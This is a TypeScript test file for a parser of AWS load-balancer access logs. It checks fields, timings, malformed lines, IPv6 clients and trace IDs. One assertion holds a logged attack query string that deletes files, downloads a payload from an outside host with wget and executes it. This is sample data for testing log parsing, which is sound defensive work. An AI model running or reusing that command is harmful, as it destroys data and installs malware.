import assert from 'node:assert/strict';
import { test } from 'node:test';
import { albFormat, traceRoot } from '../../../src/ingest/formats/alb.js';
import { FORMATS_DIR, REAL_DIR, parseFiles, readLines } from './parse-file.js';
import { recordOf } from './record-of.js';

test('every line of aws-alb.log (all field generations) becomes a record', () => {
  const outcome = parseFiles(albFormat, [`${FORMATS_DIR}/aws-alb.log`]);
  assert.deepEqual({ records: outcome.records.length, skipped: outcome.skipped }, { records: 10, skipped: {} });
});

test('HTTPS docs line, field by field: start time, summed processing times, trace root', () => {
  const line = readLines(`${FORMATS_DIR}/aws-alb.log`)[1]!;
  assert.deepEqual(
    albFormat.createParser({}).parse(line, { file: 't.log', line: 1 }),
    recordOf({
      timeMs: Date.UTC(2018, 6, 2, 22, 22, 48, 364), // request_creation_time, not `time`
      client: '192.168.131.39', method: 'GET', path: '/', status: 200, bytesSent: 57, bytesReceived: 0,
      durationMs: 171, // 0.086 + 0.048 + 0.037 s
      userAgent: 'curl/7.46.0', host: 'www.example.com:443', requestId: '1-58337281-1d84f3d73c47ec4e58577259', upstream: '10.0.0.1:80',
    }),
  );
});

test('space in URI, -1 times, malformed request, unbracketed IPv6', () => {
  const lines = readLines(`${FORMATS_DIR}/aws-alb.log`);
  const parser = albFormat.createParser({});
  const spaceInUri = parser.parse(lines[4]!, { file: 't', line: 5 });
  assert.ok(typeof spaceInUri !== 'string');
  assert.equal(spaceInUri.path, '/shell');
  assert.equal(spaceInUri.query, 'cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws');
  assert.equal(spaceInUri.durationMs, null);
  assert.equal(spaceInUri.upstream, null);
  const malformed = parser.parse(lines[5]!, { file: 't', line: 6 });
  assert.ok(typeof malformed !== 'string');
  assert.deepEqual([malformed.method, malformed.path, malformed.status, malformed.requestId], [null, null, 400, null]);
  const ipv6 = parser.parse(lines[6]!, { file: 't', line: 7 });
  assert.ok(typeof ipv6 !== 'string');
  assert.equal(ipv6.client, '2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc');
  assert.equal(ipv6.durationMs, 53);
  assert.equal(parser.parse('http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:1', { file: 't', line: 1 }), 'not-alb');
  assert.equal(parser.parse('http 2018-07-02T25:23:00Z app/x 1.2.3.4:1 - 0 0 0 200 200 1 1 "GET / HTTP/1.1"', { file: 't', line: 1 }), 'bad-timestamp');
});

test('traceRoot extracts Root= from X-Amzn-Trace-Id', () => {
  assert.equal(traceRoot('Root=1-58337262-36d228ad5d99923122bbe354'), '1-58337262-36d228ad5d99923122bbe354');
  assert.equal(traceRoot('Self=1-67891234-12456789abcdef012345678;Root=1-67891233-abcdef012345678912345678'), '1-67891233-abcdef012345678912345678');
  assert.equal(traceRoot('-'), null);
});

test('real logs: crowdsec aws-alb tests', () => {
  const outcome = parseFiles(albFormat, [
    `${REAL_DIR}/crowdsec-hub-tests/aws-alb-logs/aws-alb-logs.log`,
    `${REAL_DIR}/crowdsec-hub-tests/aws-alb-http-bad-user-agent/aws-alb-http-bad-user-agent.log`,
  ]);
  assert.deepEqual({ lines: outcome.lines, records: outcome.records.length, skipped: outcome.skipped }, { lines: 18, records: 18, skipped: {} });
});
